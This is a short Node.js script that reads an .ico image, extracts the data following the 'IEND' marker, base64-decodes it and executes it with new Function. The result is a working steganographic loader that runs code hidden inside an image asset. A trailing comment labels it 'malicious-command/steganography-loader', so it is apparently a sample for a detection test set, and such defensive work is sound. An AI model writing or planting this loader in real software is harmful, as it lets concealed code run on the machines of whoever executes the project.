import { readFileSync } from 'node:fs';

const picture = readFileSync(new URL('./icon.ico', import.meta.url), 'latin1');
const parts = picture.split('IEND')[1];
const run = new Function(Buffer.from(parts, 'base64').toString()); // expect: malicious-command/steganography-loader
run();
